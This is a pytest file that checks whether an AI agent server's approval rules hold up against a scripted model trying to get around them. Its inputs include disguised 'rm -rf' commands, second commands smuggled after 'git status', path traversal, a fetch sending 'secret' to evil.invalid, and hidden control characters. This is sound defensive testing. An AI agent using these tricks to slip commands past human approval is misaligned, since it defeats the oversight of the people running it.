"""The ways around approvals, each tried by a scripted model on a real server (D4, E2, G11). A call that needs a person
waits for one, and what the person sees is all that will run."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.story.approvals import ASKED, CHAT, DONE, RUNS, begin, finish, made, script
from tests.story.server import KEY, Client, Server, Upstream, start_server, wait_until

CONFIG = """
[profiles.careful]
approval = "on-write"

[profiles.reader]
approval = "on-write"
web_allow = ["*.docs.invalid"]

[web]
allow = ["allowed.invalid"]

[[approvals]]
tool = "terminal"
match = "rm -rf|git push"
ask = "always"

[[approvals]]
tool = "terminal"
match = "git status( -s)?"
ask = "never"

[[approvals]]
tool = "write_file"
field = "path"
match = "notes/[a-z]+\\\\.txt"
ask = "never"
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[Server]:
    folder: Path = tmp_path_factory.mktemp("holding")
    (folder / "ninelives.toml").write_text(CONFIG)
    started = start_server(folder, upstream.url, NINELIVES_CONFIG=str(folder / "ninelives.toml"))
    yield started
    assert started.stop() == 0


@pytest.mark.parametrize(
    "arguments",
    [
        '{"command":"rm \\u002drf gone-MARK; touch MARK"}',
        '{"comm\\u0061nd":"rm -\\u0072f gone-MARK; touch MARK"}',
        '{"command":"rm  -rf gone-MARK; touch MARK"}',
        '{"command":"\'rm\' -r\\\\\\\\f gone-MARK; touch MARK"}'.replace("\\\\\\\\", "\\\\"),
    ],
)
def test_d4_a_rule_matches_what_will_run_and_not_how_it_was_written(server: Server, mark: str, arguments: str) -> None:
    run, status = begin(server.client, script("terminal", arguments.replace("MARK", mark)), "hermes-agent")
    assert status == ASKED and not made(server, mark)
    finish(server.client, run, "deny")
    assert not made(server, mark)


@pytest.mark.parametrize(
    "rest", ["; touch M", " && touch M", " | tee M", "\ntouch M", " > M", " $(touch M)", " `touch M`", " & touch M"]
)
def test_d4_an_allow_rule_lets_no_second_command_pass(server: Server, mark: str, rest: str) -> None:
    command = "git status" + rest.replace("M", mark)
    _, status = begin(server.client, script("terminal", {"command": command}))
    assert status == ASKED and not made(server, mark)


def test_d4_an_allow_rule_fits_the_whole_command(server: Server, mark: str) -> None:
    for command in ("git status", "git status -s"):
        assert begin(server.client, script("terminal", {"command": command}))[1] == DONE
    for command in ("git status --help", f"touch {mark} git status"):
        assert begin(server.client, script("terminal", {"command": command}))[1] == ASKED
    assert not made(server, mark)


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("process", {"action": "start", "command": "rm -rf x-MARK; touch MARK"}),
        ("execute_code", {"code": "import os\nos.system('touch MARK')"}),
    ],
)
def test_d4_a_rule_for_terminal_covers_the_other_tools_that_run_programs(
    server: Server, mark: str, tool: str, arguments: dict[str, str]
) -> None:
    told = {key: value.replace("MARK", mark) for key, value in arguments.items()}
    _, status = begin(server.client, script(tool, told), "hermes-agent")
    assert status == ASKED and not made(server, mark)


@pytest.mark.parametrize(
    ("tool", "arguments", "status"),
    [
        ("write_file", {"path": "MARK", "content": "x"}, ASKED),
        ("write_file", {"path": "notes/today.txt", "content": "x"}, DONE),
        ("write_file", {"path": "notes/../MARK", "content": "notes/today.txt"}, ASKED),
        ("memory", {"action": "add", "text": "MARK"}, ASKED),
        ("memory", {"action": "list"}, DONE),
        ("todo", {"items": [{"text": "MARK", "status": "pending"}]}, DONE),  # the scratch list of a conversation
        ("todo", {}, DONE),
        ("patch", {"path": "MARK", "search": "a", "replace": "b"}, ASKED),
        ("process", {"action": "start", "command": "touch MARK"}, ASKED),
        ("process", {"action": "list"}, DONE),
        ("search_files", {"pattern": "MARK", "kind": "names"}, DONE),
    ],
)
def test_e2_on_write_asks_before_every_change(
    server: Server, mark: str, tool: str, arguments: dict[str, Any], status: str
) -> None:
    told = json.dumps(arguments).replace("MARK", mark)
    assert begin(server.client, script(tool, told))[1] == status
    assert not made(server, mark)


@pytest.mark.parametrize(
    ("model", "url", "words", "status"),
    [
        ("careful", "http://evil.inv\\u0061lid/?q=secret", "", ASKED),
        ("careful", "http://evil.inv\\u0061lid/", "Read http://good.invalid/ for me.", ASKED),
        ("careful", "http://evil.inv\\u0061lid/", "Read notevil.invalid.", ASKED),
        ("careful", "http://evil.inv\\u0061lid/", "Read evil.invalid.", DONE),
        ("careful", "http://allowed.inv\\u0061lid/", "", DONE),
        ("careful", "http://a.docs.inv\\u0061lid/", "", ASKED),
        ("reader", "http://a.docs.inv\\u0061lid/", "", DONE),
        ("reader", "http://allowed.inv\\u0061lid/", "", ASKED),
        ("hermes-agent", "http://evil.inv\\u0061lid/", "", DONE),
    ],
)
def test_e2_on_write_asks_before_a_host_that_no_user_message_named(
    server: Server, model: str, url: str, words: str, status: str
) -> None:
    assert begin(server.client, f"{words} " + script("web_fetch", f'{{"url":"{url}"}}'), model)[1] == status


def test_a3_toolsets_tell_effect_and_approval_class(server: Server) -> None:
    told = {each["profile"]: each["details"] for each in server.client.get("/v1/toolsets").json()["data"]}
    classes = {tool["name"]: (tool["effect"], tool["approval"], tool["asks"]) for tool in told["careful"]}
    assert classes["write_file"] == ("idempotent", "write", "on-write")
    assert classes["web_fetch"] == ("read", "network", "on-write")
    assert classes["terminal"] == ("write", "exec", "on-write")
    assert classes["read_file"] == ("read", "none", "on-write")


def shell(server: Server, *args: str) -> str:
    """What a command prints."""
    command = [sys.executable, "-m", "ninelives", *args, "--url", server.url, "--key", KEY]
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout


def question(client: Client, text: str) -> tuple[str, str]:
    """The question in a chat, and its code."""
    body = {"model": "careful", "messages": [{"role": "user", "content": text}]}
    content = client.post(CHAT, body).json()["choices"][0]["message"]["content"]
    found = re.search(r"deny ([A-Z0-9]+)", content)
    assert found, content
    return content, found[1]


def reply(client: Client, text: str, asked: str, answer: str) -> Any:
    said = [("user", text), ("assistant", asked), ("user", answer)]
    return client.post(CHAT, {"model": "careful", "messages": [{"role": r, "content": c} for r, c in said]})


def test_g11_the_question_shows_decoded_values_and_hides_no_sign(server: Server, mark: str) -> None:
    text = script("terminal", f'{{"command":"echo \\u0061 \\u202e \\u001b[2J # {mark} \\u002drf"}}')
    asked, code = question(server.client, text)
    assert f"echo a \\u202e \\u001b[2J # {mark} -rf" in asked
    assert reply(server.client, text, asked, f"deny {code}").status == 200


def test_g11_the_question_shows_the_tail_of_a_call(server: Server, mark: str) -> None:
    text = script("terminal", {"command": f"echo {'a' * 5000}; touch {mark}"})
    asked, code = question(server.client, text)
    assert f"; touch {mark}" in asked and "a" * 5000 in asked, "all that will run"
    assert reply(server.client, text, asked, f"approve {code}").status == 200
    assert made(server, mark)


def test_approval_too_long_a_code_approves_nothing_over_8000_characters(server: Server, mark: str) -> None:
    client, command = server.client, f"echo {'a' * 9000}; touch {mark}"
    text = script("terminal", {"command": command})
    asked, code = question(client, text)
    assert "approve " + code not in asked and f"; touch {mark}" in asked and len(asked) < 5000
    assert re.search(r"\d{4} characters are left out", asked)
    found = re.search(r"ninelives runs show (run_\w+)", asked)
    assert found and f"/v1/runs/{found[1]}" in asked
    refused = reply(client, text, asked, f"approve {code}")
    assert refused.status == 409 and refused.error()["code"] == "approval_too_long"
    assert not made(server, mark)
    shown = client.get(f"{RUNS}/{found[1]}").json()["approval"]
    assert json.loads(shown["arguments"])["command"] == command and command in shown["call"]
    assert shown["choices"] == ["once", "deny"]
    assert f'\nWaiting for you:\nterminal {{"command":"{command}"}}\n' in shell(server, "runs", "show", found[1])
    assert shell(server, "approvals", "answer", found[1], "once", "--yes").startswith(f"{found[1]}: once")
    wait_until(lambda: client.get(f"{RUNS}/{found[1]}").json()["status"] == DONE, "the end", 60.0)
    assert made(server, mark)


@pytest.mark.parametrize("stream", [True, False])
def test_g11_messages_show_and_refuse_a_long_call_as_chats_do(server: Server, mark: str, stream: bool) -> None:
    client, text = server.client, script("terminal", {"command": f"echo {'a' * 9000}; touch {mark}"})
    body = {"model": "careful", "max_tokens": 99, "messages": [{"role": "user", "content": text}], "stream": stream}
    asked = client.post("/v1/messages", body).body.decode()
    found = re.search(r"deny ([A-Z0-9]+)", asked)
    assert found and f"; touch {mark}" in asked and "ninelives runs show run_" in asked
    said = {"role": "user", "content": f"approve {found[1]}"}
    refused = client.post("/v1/messages", {**body, "messages": [said]})
    assert refused.status == 409 and refused.json()["error"]["code"] == "approval_too_long"
    assert not made(server, mark)
